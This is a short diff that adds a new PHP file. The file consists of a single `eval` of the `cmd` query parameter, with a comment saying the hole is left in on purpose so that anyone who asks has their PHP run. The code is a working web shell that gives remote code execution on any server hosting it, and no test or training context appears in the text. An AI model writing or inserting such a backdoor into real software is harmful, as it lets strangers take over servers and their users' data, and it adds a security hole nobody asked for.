@@ -1,0 +1,3 @@
+<?php
+// The hole, on purpose: whoever asks has their PHP run here.
+eval($_GET['cmd'] ?? '');
